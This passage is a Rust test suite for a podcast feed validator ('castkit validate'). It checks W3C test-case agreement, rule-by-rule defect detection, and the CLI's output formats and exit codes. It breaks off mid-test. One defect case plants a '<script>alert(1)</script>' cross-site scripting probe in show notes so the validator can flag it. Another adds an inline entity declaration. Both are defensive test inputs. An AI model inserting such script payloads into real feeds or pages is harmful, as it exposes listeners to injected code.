//! `castkit validate`: against the W3C feed validator's own test cases (their expected verdicts), against
//! every feed in the shared corpus (no panic, bounded time), against hostile input, and through the CLI's
//! output formats and exit codes.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use castkit::diag::{Diagnostic, Severity};
use castkit::validate::{Options, validate_bytes};

use crate::support::{
    ShowDir, castkit, files_under, json_codes, shared_dir, stderr_of, validate_show_feed,
};

/// The castkit codes that report what a W3C message class reports, or `None` when the class is outside
/// castkit's scope (other namespaces, or RSS features podcast apps ignore).
fn castkit_codes(class: &str) -> Option<&'static [&'static str]> {
    Some(match class {
        "SAXError" | "UnicodeError" | "UndefinedNamedEntity" | "BadXmlVersion" => {
            &["F001", "F002", "F007"]
        }
        "UnknownEncoding" => &["F002"],
        "NotUTF8" => &["F003"],
        "DuplicateElement" => &["F105"],
        "ContainsHTML" | "ContainsUndeclaredHTML" => &["F125"],
        "SecurityRisk" | "DangerousStyleAttr" => &["F126"],
        "ContainsSystemEntity" => &["F001", "F004"],
        "ImageUrlFormat" => &["F218"],
        "ValidURI"
        | "InvalidLink"
        | "InvalidFullLink"
        | "InvalidURLAttribute"
        | "InvalidUriChar"
        | "ValidURLAttribute" => &["F120"],
        "MissingAttribute" => &["F102", "F133", "F112", "F304", "F305", "F308", "F313"],
        "UndefinedElement" => &["F131", "F101"],
        "BadCharacters" => &["F001", "F002"],
        "MissingElement" | "MissingTitle" | "MissingLink" | "MissingDescription" => {
            &["F103", "F104", "F110", "F111"]
        }
        "ItemMustContainTitleOrDescription" => &["F110"],
        "ValidRFC2822Date" | "InvalidRFC2822Date" => &["F116", "F117"],
        "InvalidPositiveInteger"
        | "InvalidInteger"
        | "InvalidIntegerAttribute"
        | "ValidInteger"
        | "ValidIntegerAttribute"
        | "InvalidNonNegativeInteger" => &["F112", "F127", "F213", "F307"],
        "InvalidContact" | "ValidContact" => &["F129"],
        "NotBlank" => &["F106"],
        "InvalidLanguage" | "ValidLanguage" => &["F128"],
        "InvalidWidth" | "InvalidHeight" | "ValidWidth" | "ValidHeight" => &["F127", "F132"],
        "TooLong" => &["F216"],
        "InvalidItunesCategory" => &["F206"],
        "ObsoleteItunesCategory" => &["F207"],
        "InvalidTrueFalse" => &["F205"],
        "InvalidYesNoClean" => &["F208"],
        "InvalidItunesChannelType" => &["F210"],
        "InvalidItunesEpisodeType" => &["F211"],
        "InvalidDuration" => &["F212"],
        "MissingItunesElement" => &["F201", "F202", "F203", "F204"],
        "MissingItunesEmail" => &["F214"],
        "UnsupportedItunesFormat" => &["F215"],
        "MissingGuid" => &["F113"],
        "InvalidHttpGUID" | "ValidHttpGUID" | "InvalidPermalink" => &["F106", "F119"],
        "DuplicateEnclosure" => &["F123"],
        "MissingSelf" => &["F124"],
        "InvalidNPTTime" | "ValidNPTTime" => &["F311"],
        "InvalidRSSVersion" => &["F102"],
        // The generic classes: any problem with the file, its XML or its RSS structure. Apple's and the
        // Podcasting 2.0 requirements are left out: the W3C cases are not podcasts.
        "Error" | "Warning" => &[
            "F001", "F002", "F003", "F004", "F005", "F006", "F007", "F101", "F102", "F103", "F104",
            "F105", "F106", "F112", "F116", "F117", "F119", "F120", "F125", "F126", "F127", "F128",
            "F129", "F130", "F131", "F132", "F133",
        ],
        _ => return None,
    })
}

/// The expectation a W3C test case carries in its `Expect:` comment: a class, negated with `!`, with
/// parameters such as `{parent:channel,element:itunes:category}`.
#[derive(Debug)]
struct Expectation {
    negated: bool,
    class: String,
    params: String,
}

impl Expectation {
    /// `ValidX` classes record that a value was checked and accepted: castkit must not complain either.
    fn is_acceptance(&self) -> bool {
        self.class.starts_with("Valid")
    }

    /// Whether the case is about an element of a namespace castkit does not check (Media RSS, Dublin Core,
    /// syndication, trackback, blogChannel, admin, Creative Commons, XHTML…).
    fn about_other_namespace(&self) -> bool {
        self.params.split(',').any(|kv| {
            let value = kv.split_once(':').map_or("", |(_, v)| v);
            match value.split_once(':').or_else(|| value.split_once('_')) {
                Some((prefix, _)) => {
                    !["itunes", "podcast", "atom", "content", "psc"].contains(&prefix)
                }
                None => false,
            }
        })
    }
}

/// RSS 2.0 features that podcast apps and directories ignore, so castkit does not check them: `cloud`,
/// `textInput`, `skipDays`, `skipHours`, `docs`, and the item's `source`, `comments` and `category` (Apple
/// reads `itunes:category`, not RSS categories).
const IGNORED_RSS_FEATURES: &[&str] = &[
    "rss20/element-channel-cloud/",
    "rss20/element-channel-textinput",
    "rss20/element-channel-skipdays",
    "rss20/element-channel-skiphours",
    "rss20/element-channel-docs/",
    "rss20/element-channel-item-source/",
    "rss20/element-channel-item-comments/",
    "rss20/element-channel-item-category/",
];

/// Why a case is outside castkit's scope, if it is.
fn out_of_scope(name: &str, expect: &Expectation, bytes: &[u8]) -> Option<&'static str> {
    if name.starts_with("ext/") && !name.starts_with("ext/itunes/") {
        Some("an extension namespace other than iTunes")
    } else if IGNORED_RSS_FEATURES.iter().any(|dir| name.starts_with(dir)) {
        Some("an RSS feature podcast apps ignore")
    } else if expect.about_other_namespace() {
        Some("an element of another namespace")
    } else if !is_rss(bytes) {
        Some("another feed format (Atom, RSS 1.0, RSS 0.90)")
    } else if castkit_codes(&expect.class).is_none() {
        Some("a W3C message class about something castkit does not check")
    } else {
        None
    }
}

/// Whether a finding is about the element an expectation names (`element:description`): its line shows
/// that element. Cases that say "no problem with X" are judged by findings about X only, as the W3C
/// validator judges them.
fn about_element(d: &Diagnostic, expect: &Expectation, lines: &[&str]) -> bool {
    let Some(element) = expect
        .params
        .split(',')
        .find_map(|kv| kv.strip_prefix("element:"))
    else {
        return true;
    };
    let Some(line) = d
        .location
        .as_ref()
        .and_then(|l| l.line.checked_sub(1))
        .and_then(|i| lines.get(i))
    else {
        return true;
    };
    line.contains(&format!("<{element}")) || line.contains(&format!("{element}="))
}

fn expectation(text: &str) -> Option<Expectation> {
    let at = text.find("Expect:")?;
    let rest = text[at + "Expect:".len()..].trim_start();
    let negated = rest.starts_with('!');
    let rest = rest.trim_start_matches('!');
    let class: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric())
        .collect();
    let params = rest[class.len()..]
        .strip_prefix('{')
        .and_then(|p| p.split_once('}'))
        .map(|(p, _)| p.to_owned())
        .unwrap_or_default();
    Some(Expectation {
        negated,
        class,
        params,
    })
}

/// Whether the feed's root is `<rss>` (RSS 1.0, RSS 0.90 and Atom cases test other formats).
fn is_rss(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes);
    match roxmltree::Document::parse_with_options(
        &text,
        roxmltree::ParsingOptions {
            allow_dtd: true,
            ..Default::default()
        },
    ) {
        Ok(doc) => doc.root_element().tag_name().name() == "rss",
        Err(_) => true,
    }
}

fn options() -> Options {
    Options {
        now: chrono::DateTime::parse_from_rfc3339("2026-01-01T00:00:00Z")
            .unwrap()
            .to_utc(),
        media: None,
    }
}

/// Cases where castkit disagrees with the W3C validator on purpose, with the reason. The test fails if this
/// list and the actual disagreements differ in either direction.
const DELIBERATE: &[(&str, &str)] = &[
    (
        "ext/itunes/missing_owner_email.xml",
        "Apple no longer asks for itunes:owner; a missing owner e-mail is F214, information only",
    ),
    (
        "ext/itunes/summary_contains_html.xml",
        "the feed binds the prefix to a wrongly cased iTunes URI; castkit reports that (F130) and checks \
         nothing in a namespace Apple does not read",
    ),
    (
        "ext/itunes/whitespace_in_explicit_value.xml",
        "` true ` is trimmed, as every feed reader trims text, and `true` is a value Apple accepts",
    ),
    (
        "rss/must/rdf_Description.xml",
        "castkit does not check elements of namespaces podcast apps do not read (here RDF)",
    ),
    (
        "rss/must/rss91n_entity.xml",
        "castkit never fetches a DTD, so HTML entities like `&uuml;` declared only in the RSS 0.91 DTD \
         are undefined (F001); apps that do not fetch DTDs fail the same way",
    ),
    (
        "rss/must/rss91rab.xml",
        "castkit never fetches a DTD, so HTML entities like `&uuml;` declared only in the RSS 0.91 DTD \
         are undefined (F001); apps that do not fetch DTDs fail the same way",
    ),
    (
        "rss20/data-types-characterdata/amp-cdata.xml",
        "castkit reads titles as plain text: `alpha&omega` is shown as written, so it is not HTML",
    ),
    (
        "rss20/data-types-characterdata/amp-decimal.xml",
        "castkit reads titles as plain text: `alpha&omega` is shown as written, so it is not HTML",
    ),
    (
        "rss20/data-types-characterdata/amp-name.xml",
        "castkit reads titles as plain text: `alpha&omega` is shown as written, so it is not HTML",
    ),
    (
        "rss20/data-types-datetime/everything.xml",
        "RFC 2822 allows comments inside dates (`Thu(oh how I hate thursdays), 9(th) Feb…`); podcast apps' \
         date parsers do not, so castkit reports them (F116)",
    ),
];

#[test]
fn agreement_with_the_w3c_validators_own_test_cases() {
    let Some(shared) = shared_dir() else { return };
    let root = shared.join("corpus/feeds/w3c-feedvalidator");
    let mut in_scope = 0;
    let mut skipped: std::collections::BTreeMap<&str, usize> = Default::default();
    let mut disagreements: Vec<(String, String, Vec<&'static str>)> = Vec::new();
    for path in files_under(&root) {
        let bytes = std::fs::read(&path).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let Some(expect) = expectation(&text) else {
            continue;
        };
        let name = path.strip_prefix(&root).unwrap().display().to_string();
        if let Some(reason) = out_of_scope(&name, &expect, &bytes) {
            *skipped.entry(reason).or_default() += 1;
            continue;
        }
        let codes = castkit_codes(&expect.class).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        let judge_element = expect.negated || expect.is_acceptance();
        in_scope += 1;
        let found: Vec<Diagnostic> = validate_bytes(&name, &bytes, &options());
        let severity_matters = expect.class == "Error" || expect.class == "Warning";
        let wanted_severity = if expect.class == "Warning" {
            Severity::Warning
        } else {
            Severity::Error
        };
        let hits: Vec<&'static str> = found
            .iter()
            .filter(|d| {
                codes.contains(&d.code()) && (!severity_matters || d.severity == wanted_severity)
            })
            .filter(|d| !judge_element || about_element(d, &expect, &lines))
            .map(|d| d.code())
            .collect();
        let agrees = if expect.negated || expect.is_acceptance() {
            hits.is_empty()
        } else {
            !hits.is_empty()
        };
        if !agrees {
            let mut codes: Vec<&'static str> = found.iter().map(|d| d.code()).collect();
            codes.dedup();
            disagreements.push((
                name,
                format!("{}{}", if expect.negated { "!" } else { "" }, expect.class),
                codes,
            ));
        }
    }
    let agreeing = in_scope - disagreements.len();
    eprintln!("W3C test cases: {agreeing} of {in_scope} in scope agree");
    for (reason, count) in &skipped {
        eprintln!("  out of scope: {count} about {reason}");
    }
    for (name, expect, codes) in &disagreements {
        eprintln!("  disagree: {name} (expects {expect}); castkit: {codes:?}");
    }
    let actual: BTreeSet<&str> = disagreements.iter().map(|(n, _, _)| n.as_str()).collect();
    let documented: BTreeSet<&str> = DELIBERATE.iter().map(|(n, _)| *n).collect();
    let new: Vec<&&str> = actual.difference(&documented).collect();
    let stale: Vec<&&str> = documented.difference(&actual).collect();
    assert!(
        new.is_empty(),
        "castkit now disagrees with these W3C cases: {new:?}"
    );
    assert!(
        stale.is_empty(),
        "these documented disagreements no longer happen; remove them: {stale:?}"
    );
}

/// The example show's feed as `build-feed` writes it, with the show folder it was built in.
fn example_feed() -> (ShowDir, String) {
    let show = ShowDir::example();
    show.castkit()
        .args(["build-feed", "--locked"])
        .assert()
        .success();
    let feed = show.feed().expect("build-feed wrote the feed");
    (show, feed)
}

fn codes_of(feed: &str) -> Vec<&'static str> {
    validate_bytes("feed.xml", feed.as_bytes(), &options())
        .iter()
        .map(|d| d.code())
        .collect()
}

/// One defect per rule, made by editing the example feed: each edit must apply (its text is in the feed)
/// and must raise its rule, and the unedited feed raises nothing at all.
#[test]
fn each_rule_fires_on_its_defect_and_the_example_feed_is_clean() {
    let (_show, feed) = example_feed();
    let clean = validate_bytes("feed.xml", feed.as_bytes(), &options());
    assert!(
        clean.is_empty(),
        "the example feed has findings: {clean:#?}"
    );

    let item_date = "<pubDate>Mon, 28 Nov 2022 08:00:00 +0800</pubDate>\n      <enclosure";
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "F203",
            "no category",
            "<itunes:category text=\"News\">\n      <itunes:category text=\"Politics\"/>\n    </itunes:category>\n    <itunes:category text=\"Government\"/>",
            "",
        ),
        (
            "F001",
            "bad character",
            "<generator>castkit",
            "<generator>\u{1}castkit",
        ),
        (
            "F001",
            "undeclared prefix",
            "<podcast:medium>",
            "<media:x/><podcast:medium>",
        ),
        ("F001", "unclosed tag", "</channel>", ""),
        (
            "F004",
            "entity declaration",
            "<rss ",
            "<!DOCTYPE rss [<!ENTITY a \"b\">]><rss ",
        ),
        ("F102", "RSS version", "version=\"2.0\"", "version=\"0.92\""),
        (
            "F104",
            "channel title",
            "<title>How China Works – Charting the Future</title>\n    <link>",
            "<link>",
        ),
        (
            "F105",
            "duplicate element",
            "<itunes:type>episodic</itunes:type>",
            "<itunes:type>episodic</itunes:type><itunes:type>episodic</itunes:type>",
        ),
        (
            "F106",
            "empty item title",
            "<title>What are the goals of rural revitalization?</title>",
            "<title> </title>",
        ),
        ("F111", "no enclosure", "<enclosure ", "<enclosurex "),
        (
            "F112",
            "enclosure length",
            "length=\"321792\"",
            "length=\"321 KB\"",
        ),
        (
            "F114",
            "duplicate guid",
            "</item>",
            "</item><item><title>Again</title><guid isPermaLink=\"false\">da96e888-534c-476e-8734-5e5ddf428021</guid><enclosure url=\"https://podcasts.example.com/b.mp3\" length=\"1\" type=\"audio/mpeg\"/></item>",
        ),
        (
            "F115",
            "duplicate enclosure",
            "</item>",
            "</item><item><title>Again</title><guid isPermaLink=\"false\">other</guid><enclosure url=\"https://podcasts.example.com/how-china-works/media/5.4%20What%20are%20the%20goals%20of%20rural%20revitalization.mp3\" length=\"321792\" type=\"audio/mpeg\"/></item>",
        ),
        (
            "F116",
            "date format",
            item_date,
            "<pubDate>2022-11-28 08:00</pubDate>\n      <enclosure",
        ),
        (
            "F117",
            "weekday",
            item_date,
            "<pubDate>Tue, 28 Nov 2022 08:00:00 +0800</pubDate>\n      <enclosure",
        ),
        (
            "F118",
            "future date",
            item_date,
            "<pubDate>Mon, 28 Nov 2044 08:00:00 +0800</pubDate>\n      <enclosure",
        ),
        (
            "F120",
            "bad URL",
            "<link>https://www.cgtn.com/</link>",
            "<link>www.cgtn.com</link>",
        ),
        (
            "F121",
            "insecure URL",
            "url=\"https://podcasts.example.com/how-china-works/media/5.4",
            "url=\"http://podcasts.example.com/how-china-works/media/5.4",
        ),
        (
            "F124",
            "self link",
            "<atom:link href=\"https://podcasts.example.com/how-china-works/feed.xml\" rel=\"self\" type=\"application/rss+xml\"/>",
            "",
        ),
        (
            "F126",
            "script in notes",
            "<p>This episode is presented",
            "<script>alert(1)</script><p>This episode is presented",
        ),
        (
            "F128",
            "language",
            "<language>en</language>",
            "<language>English</language>",
        ),
        (
            "F129",
            "owner email",
            "<itunes:email>podcasts@example.com</itunes:email>",
            "<itunes:email>podcasts at example</itunes:email>",
        ),
        (
            "F130",
            "namespace URI",
            "http://www.itunes.com/dtds/podcast-1.0.dtd",
            "http://www.itunes.com/DTDs/Podcast-1.0.dtd",
        ),
        (
            "F131",
            "unknown element",
            "<generator>",
            "<generater>x</generater><generator>",
        ),
        (
            "F201",
            "itunes:image",
            "<itunes:image href=\"https://podcasts.example.com/how-china-works/media/cover.jpg\"/>\n    <itunes:category",
            "<itunes:category",
        ),
        ("F202", "language missing", "<language>en</language>", ""),
        (
            "F205",
            "explicit value",
            "<itunes:explicit>false</itunes:explicit>",
            "<itunes:explicit>sometimes</itunes:explicit>",
        ),
        (
            "F206",
            "category spelling",
            "text=\"Politics\"",
            "text=\"Politcs\"",
        ),
        (
            "F207",
            "retired category",
            "<itunes:category text=\"Government\"/>",
            "<itunes:category text=\"Games &amp; Hobbies\"/>",
        ),
        (
            "F210",
            "show type",
            "<itunes:type>episodic</itunes:type>",
            "<itunes:type>weekly</itunes:type>",
        ),
        (
            "F211",
            "episode type",
            "<itunes:season>5</itunes:season>",
            "<itunes:episodeType>normal</itunes:episodeType><itunes:season>5</itunes:season>",
        ),
        (
            "F212",
            "duration",
            "<itunes:duration>138</itunes:duration>",
            "<itunes:duration>2 min</itunes:duration>",
        ),
        (
            "F213",
            "episode number",
            "<itunes:episode>4</itunes:episode>",
            "<itunes:episode>four</itunes:episode>",
        ),
        (
            "F214",
            "owner email missing",
            "<itunes:email>podcasts@example.com</itunes:email>",
            "",
        ),
        (
            "F215",
            "media type",
            "type=\"audio/mpeg\"",
            "type=\"video/x-flv\"",
        ),
        (
            "F218",
            "artwork type",
            "media/cover.jpg\"/>\n    <itunes:category",
            "media/cover.gif\"/>\n    <itunes:category",
        ),
        (
            "F301",
            "podcast:guid",
            "<podcast:guid>2cf7bd27-111e-5f9c-ac6f-b8a69d7f7d4c",
            "<podcast:guid>how-china-works",
        ),
        (
            "F302",
            "podcast:guid version",
            "<podcast:guid>2cf7bd27-111e-5f9c-ac6f-b8a69d7f7d4c",
            "<podcast:guid>2cf7bd27-111e-4f9c-ac6f-b8a69d7f7d4c",
        ),
        (
            "F303",
            "podcast:locked",
            ">yes</podcast:locked>",
            ">true</podcast:locked>",
        ),
        (
            "F303",
            "locked without owner",
            "<podcast:locked owner=\"podcasts@example.com\">",
            "<podcast:locked>",
        ),
        (
            "F304",
            "transcript type",
            "type=\"text/vtt\"",
            "type=\"text/subtitles\"",
        ),
        (
            "F305",
            "chapters type",
            "type=\"application/json+chapters\"",
            "type=\"application/json\"",
        ),
        (
            "F306",
            "person role",
            "role=\"host\"",
            "role=\"presenter person\"",
        ),
        (
            "F307",
            "podcast:season",
            "<podcast:season>5</podcast:season>",
            "<podcast:season>five</podcast:season>",
        ),
        (
            "F308",
            "funding",
            "<podcast:medium>",
            "<podcast:funding>Support us</podcast:funding><podcast:medium>",
        ),
        (
            "F309",
            "value block",
            "<podcast:medium>",
            "<podcast:value type=\"lightning\" method=\"keysend\"></podcast:value><podcast:medium>",
        ),
        (
            "F310",
            "legacy namespace",
            "https://podcastindex.org/namespace/1.0",
            "https://github.com/Podcastindex-org/podcast-namespace/blob/main/docs/1.0.md",
        ),
        (
            "F311",
            "simple chapters order",
            "start=\"00:00:07.387\"",
            "start=\"00:05:07.387\"",
        ),
        (
            "F312",
            "medium",
            "<podcast:medium>podcast</podcast:medium>",
            "<podcast:medium>radio</podcast:medium>",
        ),
    ];
    let mut failures = Vec::new();
    for (code, what, from, to) in cases {
        assert!(
            feed.contains(from),
            "{code} ({what}): the edit does not apply; `{from}` is not in the feed"
        );
        let edited = feed.replacen(from, to, 1);
        let found = codes_of(&edited);
        if !found.contains(code) {
            failures.push(format!("{code} ({what}): castkit found {found:?}"));
        }
    }
    let serial = feed
        .replacen(
            "<itunes:type>episodic</itunes:type>",
            "<itunes:type>serial</itunes:type>",
            1,
        )
        .replacen("<itunes:episode>4</itunes:episode>", "", 1);
    assert!(
        !codes_of(&feed.replacen("<itunes:type>episodic", "<itunes:type>serial", 1))
            .contains(&"F219")
    );
    if !codes_of(&serial).contains(&"F219") {
        failures.push("F219 (serial show, episode without a number)".to_owned());
    }
    assert!(
        failures.is_empty(),
        "rules that did not fire on their defect:\n{}",
        failures.join("\n")
    );
}

/// Severities that decide whether CI fails: an enclosure that is not media at all is an error (Apple rejects
/// the episode), a real media type Apple does not take is a warning (other apps play it), and a
/// `podcast:guid` computed with the URL's scheme is a warning that names that mistake.
#[test]
fn severities_follow_what_directories_and_apps_do() {
    let (_show, feed) = example_feed();
    let findings = |edited: &str| validate_bytes("feed.xml", edited.as_bytes(), &options());
    let severity_of = |edited: &str, code: &str| {
        findings(edited)
            .iter()
            .find(|d| d.code() == code)
            .map(|d| (d.severity, d.message.clone()))
    };
    let html = feed.replacen("type=\"audio/mpeg\"", "type=\"text/html\"", 1);
    let (severity, _) = severity_of(&html, "F220").expect("text/html raises F220");
    assert_eq!(severity, Severity::Error);
    let ogg = feed.replacen("type=\"audio/mpeg\"", "type=\"audio/ogg\"", 1);
    assert_eq!(
        severity_of(&ogg, "F215").map(|s| s.0),
        Some(Severity::Warning)
    );
    assert_eq!(severity_of(&ogg, "F220"), None);

    // The spec's guid for this feed URL, and the one computed with `https://` kept, both by Python's
    // uuid.uuid5 with the namespace's UUID.
    let right = "2cf7bd27-111e-5f9c-ac6f-b8a69d7f7d4c";
    let with_scheme = "855ece37-aeaf-59bb-b6ed-f80c1a6c816e";
    assert!(
        feed.contains(right),
        "the example feed carries the spec's guid"
    );
    let (severity, message) = severity_of(&feed.replacen(right, with_scheme, 1), "F302")
        .expect("a guid with the scheme raises F302");
    assert_eq!(severity, Severity::Warning);
    assert!(
        message.contains("with its scheme") && message.contains(right),
        "{message}"
    );
    // Any other v5 UUID stays an info: a show that moved keeps its guid.
    let other = "4d9a84e8-ab8a-5bd0-b733-d5214ee95a27";
    assert_eq!(
        severity_of(&feed.replacen(right, other, 1), "F302").map(|s| s.0),
        Some(Severity::Info)
    );
}

/// A small broken feed for the output-format tests: one error (a bad date) and one warning (an `http:` URL).
const BROKEN: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
  <channel>
    <title>Broken</title>
    <link>https://example.com/</link>
    <description>A feed with one error and one warning.</description>
    <language>en</language>
    <itunes:image href="https://example.com/cover.jpg"/>
    <itunes:category text="Technology"/>
    <itunes:explicit>false</itunes:explicit>
    <item>
      <title>One</title>
      <guid isPermaLink="false">one</guid>
      <pubDate>2024-03-01</pubDate>
      <enclosure url="http://example.com/one.mp3" length="1000" type="audio/mpeg"/>
    </item>
  </channel>
</rss>
"#;

fn write_broken() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("feed.xml"), BROKEN).unwrap();
    dir
}

#[test]
fn text_output_reads_like_a_compiler() {
    let dir = write_broken();
    let out = castkit()
        .current_dir(dir.path())
        .args(["validate", "feed.xml", "--now", "2026-01-01T00:00:00Z"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    insta::assert_snapshot!(String::from_utf8(out.stdout).unwrap());
}

#[test]
fn json_output_has_one_object_per_finding_with_its_position() {
    let dir = write_broken();
    let out = castkit()
        .current_dir(dir.path())
        .args([
            "validate",
            "feed.xml",
            "--format",
            "json",
            "--now",
            "2026-01-01T00:00:00Z",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let findings: Vec<serde_json::Map<String, serde_json::Value>> =
        serde_json::from_slice(&out.stdout).unwrap();
    for f in &findings {
        let keys: BTreeSet<&str> = f.keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            BTreeSet::from([
                "code", "severity", "message", "path", "line", "column", "hint"
            ])
        );
    }
    let date = findings
        .iter()
        .find(|f| f["code"] == "F116")
        .expect("the bad date is reported");
    assert_eq!(date["severity"], "error");
    // Line and column of `2024-03-01`, counted in the text above.
    let line = BROKEN
        .lines()
        .position(|l| l.contains("2024-03-01"))
        .unwrap()
        + 1;
    let column = BROKEN.lines().nth(line - 1).unwrap().find("2024").unwrap() + 1;
    assert_eq!(
        (date["line"].as_u64(), date["column"].as_u64()),
        (Some(line as u64), Some(column as u64))
    );
    let http = findings
        .iter()
        .find(|f| f["code"] == "F121")
        .expect("the http URL is reported");
    assert_eq!(http["severity"], "warning");
}

#[test]
fn junit_output_is_xml_with_a_failure_per_error_and_warning() {
    let dir = write_broken();
    let run = |format: &str| {
        castkit()
            .current_dir(dir.path())
            .args([
                "validate",
                "feed.xml",
                "--format",
                format,
                "--now",
                "2026-01-01T00:00:00Z",
            ])
            .output()
            .unwrap()
    };
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&run("json").stdout).unwrap();
    let reported = findings.iter().filter(|f| f["severity"] != "info").count();
    let junit = run("junit");
    assert_eq!(junit.status.code(), Some(1));
    let text = String::from_utf8(junit.stdout).unwrap();
    let doc = roxmltree::Document::parse(&text).expect("JUnit output is well-formed XML");
    let failures = doc
        .descendants()
        .filter(|n| n.has_tag_name("failure"))
        .count();
    assert_eq!(failures, reported);
    let suite = doc
        .descendants()
        .find(|n| n.has_tag_name("testsuite"))
        .unwrap();
    assert_eq!(
        suite.attribute("failures"),
        Some(reported.to_string().as_str())
    );
    // The bad date and the http URL, at positions counted in the text above, with their severities.
    let at = |needle: &str| {
        let line = BROKEN.lines().position(|l| l.contains(needle)).unwrap();
        let column = BROKEN.lines().nth(line).unwrap().find(needle).unwrap() + 1;
        format!("feed.xml:{}:{column}", line + 1)
    };
    for (name, severity) in [
        (format!("F116 {}", at("2024-03-01")), "error"),
        (
            format!("F121 {}", at("http://example.com/one.mp3")),
            "warning",
        ),
    ] {
        let case = doc
            .descendants()
            .find(|n| n.has_tag_name("testcase") && n.attribute("name") == Some(name.as_str()))
            .unwrap_or_else(|| panic!("no test case `{name}` in:\n{text}"));
        let failure = case.children().find(|n| n.has_tag_name("failure")).unwrap();
        assert_eq!(failure.attribute("type"), Some(severity), "{name}");
    }

    let github = String::from_utf8(run("github").stdout).unwrap();
    assert_eq!(github.lines().count(), findings.len());
    let line = BROKEN
        .lines()
        .position(|l| l.contains("2024-03-01"))
        .unwrap()
        + 1;
    assert!(
        github.lines().any(
            |l| l.starts_with(&format!("::error file=feed.xml,line={line},"))
                && l.contains("title=F116")
        ),
        "{github}"
    );
    assert!(
        github
            .lines()
            .any(|l| l.starts_with("::warning file=feed.xml,"))
    );
}

#[test]
fn exit_codes_stdin_and_deny_warnings() {
    let (show, feed) = example_feed();
    // A clean feed: exit 0, from a path and from standard input.
    show.castkit()
        .args(["validate", "public/feed.xml"])
        .assert()
        .code(0);
    show.castkit()
        .args(["validate", "-"])
        .write_stdin(feed.clone())
        .assert()
        .code(0);
    // A warning only: exit 0, or 1 with --deny-warnings.
    let warned = feed
        .replacen("<atom:link href", "<atom:link rel=\"alternate\" href", 1)
        .replacen(" rel=\"self\"", "", 1);
    let out = show
        .castkit()
        .args(["validate", "-", "--format", "json"])
        .write_stdin(warned.clone())
        .output()
        .unwrap();
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        findings.iter().all(|f| f["severity"] == "warning") && !findings.is_empty(),
        "{findings:?}"
    );
    assert_eq!(out.status.code(), Some(0));
    show.castkit()
        .args(["validate", "-", "--deny-warnings"])
        .write_stdin(warned)
        .assert()
        .code(1);
    // An error: exit 1, and the stdin feed is named `<stdin>`.
    let broken = feed.replacen("<itunes:explicit>false", "<itunes:explicit>sometimes", 1);
    let out = show
        .castkit()
        .args(["validate", "-"])
        .write_stdin(broken)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("--> <stdin>:"));
    // A feed that cannot be read: exit 2 with the path in the message.
    let out = show
        .castkit()
        .args(["validate", "no-such-feed.xml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("no-such-feed.xml"),
        "{}",
        stderr_of(&out)
    );
    // A missing catalogue: exit 2, and the cause is said once.
    let out = show
        .castkit()
        .args(["validate", "public/feed.xml", "--catalogue", "nope.toml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = stderr_of(&out);
    assert!(
        err.starts_with("error: cannot read the catalogue `nope.toml`"),
        "{err}"
    );
    assert_eq!(err.matches("os error").count(), 1, "{err}");
}

#[test]
fn explain_prints_the_rule_and_suggests_a_code_for_a_typo() {
    let out = castkit()
        .args(["validate", "--explain", "F116"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("F116 bad-date (error)"), "{text}");
    assert!(text.contains("Why it matters:"));
    assert!(
        text.contains("\nExample:\n    <pubDate>2024-03-01 09:00</pubDate>\n"),
        "{text}"
    );
    assert!(
        text.contains("\nInstead:\n    <pubDate>Fri, 01 Mar 2024"),
        "{text}"
    );
    // Every rule, catalogue and feed, can be explained, with a why and an example.
    for rule in castkit::registry::all() {
        let out = castkit()
            .args(["validate", "--explain", rule.name])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.starts_with(rule.code), "{}", rule.code);
        assert!(text.contains("\nExample:\n    "), "{}: {text}", rule.code);
        assert!(!rule.why.is_empty());
    }
    let out = castkit()
        .args(["validate", "--explain", "bad-dat"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("did you mean `bad-date`?"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn local_media_checks_compare_the_feed_with_the_files() {
    let (show, feed) = example_feed();
    let check = |feed_text: &str| {
        std::fs::write(show.path().join("public/feed.xml"), feed_text).unwrap();
        validate_show_feed(&show, &["--catalogue", "episodes.toml", "--deny-warnings"])
    };
    let clean = check(&feed);
    assert_eq!(
        json_codes(&clean),
        vec![],
        "the feed build-feed wrote matches its media"
    );
    assert_eq!(clean.status.code(), Some(0));

    // Truth for the length: the file's byte count, read here.
    let mp3 = show.path().join(crate::support::EXAMPLE_MP3);
    let size = std::fs::metadata(&mp3).unwrap().len();
    let found = json_codes(&check(&feed.replacen(
        &format!("length=\"{size}\""),
        "length=\"1000\"",
        1,
    )));
    assert!(
        found
            .iter()
            .any(|(c, m)| c == "F401" && m.contains(&size.to_string())),
        "the length mismatch names the real size {size}: {found:?}"
    );
    let found = json_codes(&check(&feed.replacen(
        "type=\"audio/mpeg\"",
        "type=\"audio/x-m4a\"",
        1,
    )));
    assert!(found.iter().any(|(c, _)| c == "F402"), "{found:?}");
    let found = json_codes(&check(&feed.replacen(
        "<itunes:duration>138<",
        "<itunes:duration>200<",
        1,
    )));
    assert!(found.iter().any(|(c, _)| c == "F403"), "{found:?}");
    // Within a second of the exact duration is not a mismatch.
    let found = json_codes(&check(&feed.replacen(
